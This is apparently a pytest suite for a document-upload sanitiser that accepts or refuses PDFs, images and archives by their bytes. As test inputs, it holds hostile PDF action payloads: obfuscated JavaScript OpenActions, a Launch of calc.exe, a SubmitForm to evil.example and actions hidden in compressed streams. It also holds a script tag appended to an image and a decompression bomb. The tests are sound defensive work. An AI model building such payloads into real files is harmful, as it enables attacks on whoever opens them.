"""What may be kept, decided by bytes alone."""

import base64
import gzip
import io
import lzma
import random
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from madoguchi.documents import content, pdf
from madoguchi.documents.problems import SENTENCES, NotAccepted
from madoguchi.documents.tests.conftest import a_pdf, an_image


def refused(given_bytes: bytes) -> str:
    with pytest.raises(NotAccepted) as problem:
        content.clean(given_bytes)
    assert problem.value.sentence == SENTENCES[problem.value.reason]
    return problem.value.reason


def a_stream(dictionary: bytes, plain: bytes) -> bytes:
    packed = zlib.compress(plain)
    return (
        b"4 0 obj\n<< " + dictionary + b" /Filter /FlateDecode /Length "
        + str(len(packed)).encode() + b" >>\nstream\n" + packed
        + b"\nendstream\nendobj\n"
    )  # fmt: skip


def a_zip(*names: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return packed.getvalue()


@pytest.mark.parametrize(
    ("sent", "reason"),
    [
        (a_zip("a.pdf"), "archive"),
        (a_zip(), "archive"),
        (a_zip("[Content_Types].xml", "word/document.xml"), "office"),
        (gzip.compress(b"x", mtime=0), "archive"),
        (lzma.compress(b"x"), "archive"),
        (b"7z\xbc\xaf\x27\x1c" + bytes(20), "archive"),
        (b"Rar!\x1a\x07\x01\x00", "archive"),
        (bytes(257) + b"ustar\x0000" + bytes(300), "archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "office"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(30), "heic"),
        (b"GIF89a", "kind"),
        (b"MZ" + bytes(60), "kind"),
        (b"<html>", "kind"),
    ],
    ids=range(13),
)
def test_what_people_send_instead_is_told_by_name(sent: bytes, reason: str) -> None:
    assert refused(sent) == reason


def test_a_plain_pdf_is_kept_byte_for_byte() -> None:
    kept = content.clean(a_pdf())
    assert (kept.media, kept.media_type) == ("pdf", "application/pdf")
    assert kept.content == a_pdf()


@pytest.mark.parametrize("media", ["jpeg", "png"])
def test_an_image_is_drawn_anew_without_place_and_the_right_way_up(media: str) -> None:
    sent = an_image(media)
    assert b"139.80E" in sent

    kept = content.clean(sent)

    assert b"139.80E" not in kept.content
    with Image.open(io.BytesIO(kept.content)) as drawn:
        assert drawn.size == (30, 40)
        assert not drawn.getexif()
        assert set(drawn.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


def test_what_hangs_on_an_image_is_gone() -> None:
    kept = content.clean(an_image("png") + b"PK\x03\x04<script>alert(1)</script>")
    assert b"script" not in kept.content


@pytest.mark.parametrize("mode", ["L", "P", "RGBA", "LA", "1", "I;16"])
def test_every_kind_of_png_can_be_drawn(mode: str) -> None:
    drawn = io.BytesIO()
    Image.new(mode, (8, 8)).save(drawn, "PNG")
    assert content.clean(drawn.getvalue()).media == "png"


def test_a_picture_of_an_identity_card_stays_readable() -> None:
    chance = random.Random(3)  # noqa: S311 - repeatable
    picture = Image.effect_noise((300, 200), 30).convert("RGB")
    spots = [(chance.randrange(300), chance.randrange(200)) for _ in range(50)]
    for spot in spots:
        picture.putpixel(spot, (0, 0, 0))
    sent = io.BytesIO()
    picture.save(sent, "PNG")
    with Image.open(io.BytesIO(content.clean(sent.getvalue()).content)) as drawn:
        assert drawn.tobytes() == picture.tobytes()


@pytest.mark.parametrize(
    ("sent", "reason"),
    [
        (b"", "empty"),
        (b"x" * (content.MAX_BYTES + 1), "too_large"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "kind"),
        (b"GIF89a" + b"\x00" * 20, "kind"),
        (b"MZ" + b"\x00" * 20, "kind"),
        (b"<html>%PDF-1.7", "kind"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 20, "damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "damaged"),
        (an_image("jpeg")[:400], "damaged"),
        (b"%PDF-1.7 cut short", "damaged"),
        (a_pdf() + b"PK\x03\x04 a second file", "damaged"),
    ],
    ids=range(11),
)
def test_what_is_no_whole_document_is_refused(sent: bytes, reason: str) -> None:
    assert refused(sent) == reason


def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_opened() -> None:
    drawn = io.BytesIO()
    Image.new("1", (9_000, 9_000)).save(drawn, "PNG")
    assert len(drawn.getvalue()) < 100_000
    assert refused(drawn.getvalue()) == "too_many_pixels"


@pytest.mark.parametrize(
    "body",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"/OpenAction << /S /J#61va#53cript /JS 5 0 R >>",
        b"/AA << /O << /S /Launch /F (calc.exe) >> >>",
        b"/Names << /EmbeddedFiles << /Names [] >> >>",
        b"/AcroForm << /XFA [] >>",
        b"/A << /S /SubmitForm /F (http://evil.example) >>",
        b"/A<</S/GoToE>>",
        b"/RichMedia 7 0 R",
    ],
)
def test_a_pdf_that_acts_on_its_own_is_refused(body: bytes) -> None:
    assert refused(a_pdf(body)) == "active"


@pytest.mark.parametrize(
    "body",
    [
        b"/OpenAction [3 0 R /Fit]",
        b"/A << /S /URI /URI (https://example.jp/) >>",
        b"/Title (JavaScript no hon)",
        b"/PageMode /UseNone /Lang (ja)",
    ],
)
def test_a_pdf_that_only_shows_is_kept(body: bytes) -> None:
    assert content.clean(a_pdf(body)).media == "pdf"


@pytest.mark.parametrize(
    "dictionary",
    [b"/Type /ObjStm /N 1 /First 4", b"/Type /O#62jStm", b"/Subtype /Image", b""],
)
def test_an_action_packed_into_a_stream_is_found(dictionary: bytes) -> None:
    hidden = a_stream(dictionary, b"5 0 << /S /JavaScript /JS (x) >>")
    assert refused(a_pdf(streams=hidden)) == "active"


def test_an_action_cut_in_two_by_the_reading_is_found() -> None:
    filling = bytes(pdf.STEP_OUT - 5)
    hidden = a_stream(b"/Type /ObjStm", filling + b"/JavaScript (x)")
    assert refused(a_pdf(streams=hidden)) == "active"


def test_an_action_written_as_text_over_packed_bytes_is_found() -> None:
    packed = zlib.compress(b"<< /S /Launch >>")
    for name, written in (
        (b"/ASCII85Decode", base64.a85encode(packed) + b"~>"),
        (b"/ASCIIHexDecode", packed.hex().encode() + b">"),
    ):
        stream = (
            b"4 0 obj\n<< /Filter [" + name + b" /FlateDecode] >>\nstream\r\n"
            + written + b"\nendstream\nendobj\n"
        )  # fmt: skip
        assert refused(a_pdf(streams=stream)) == "active"


@pytest.mark.parametrize(
    "dictionary",
    [
        b"/Type /ObjStm /Filter /LZWDecode",
        b"/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]",
        b"/Type /ObjStm /Filter 9 0 R",
        b"/Type /ObjStm /Filter /FlateDecode",  # but the bytes are not
        b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
        b"/DecodeParms << /Predictor 15 >> /Filter /FlateDecode",
        b"/Filter /ASCII85Decode",  # without an end
    ],
)
def test_objects_that_cannot_be_looked_into_are_refused(dictionary: bytes) -> None:
    stream = b"4 0 obj\n<< " + dictionary + b" >>\nstream\n\x01\x02\x03\xff"
    assert refused(a_pdf(streams=stream)) == "hidden"


def test_pictures_and_cross_references_may_be_predicted() -> None:
    for sort in (b"/Subtype /Image", b"/Type /XRef"):
        stream = a_stream(sort + b" /DecodeParms << /Predictor 12 >>", b"\x02" * 90)
        assert content.clean(a_pdf(streams=stream)).media == "pdf"


def test_a_locked_pdf_is_refused_as_such() -> None:
    assert refused(a_pdf(b"/Encrypt 8 0 R")) == "encrypted"


def test_a_pdf_of_too_many_pages_is_refused() -> None:
    pages = b"9 0 obj << /Type /Page >> endobj\n" * (pdf.MAX_PAGES + 1)
    assert refused(a_pdf(streams=pages)) == "too_many_pages"


def test_a_bomb_is_refused_and_does_not_fill_the_memory() -> None:
    bomb = a_stream(b"", bytes(64 * content.MEGABYTE))
    assert len(bomb) < content.MEGABYTE
    assert refused(a_pdf(streams=bomb * 6)) == "too_dense"


def test_very_many_streams_are_refused() -> None:
    assert refused(a_pdf(streams=b"stream\n" * 30_000)) == "too_dense"


def test_a_pdf_made_elsewhere_is_kept() -> None:
    drawn = io.BytesIO()
    Image.effect_noise((400, 300), 50).convert("RGB").save(drawn, "PDF")
    assert content.clean(drawn.getvalue()).media == "pdf"


def test_hostile_words_in_a_name_lead_nowhere(
    shared_data: Callable[[str], Path],
) -> None:
    words = (shared_data("hostile-input") / "blns.json").read_text(encoding="utf-8")
    for name in [*words.splitlines(), "a" * 5000, "con", ".", "..", "\ud800.pdf"]:
        safe = content.safe_name(name, "pdf")
        assert safe.endswith(".pdf")
        assert safe.encode()
        assert not set(safe) & set('/\\<>:"|?*\x00\r\n')
        assert len(safe) <= content.MAX_NAME + 4


@settings(max_examples=200)
@given(st.binary(max_size=400), st.sampled_from([m for m, _ in content.MAGIC]))
def test_any_bytes_are_kept_or_refused_by_name(tail: bytes, magic: bytes) -> None:
    try:
        content.clean(magic + tail + b"%%EOF")
    except NotAccepted as problem:
        assert problem.sentence  # noqa: PT017 - both ways are right
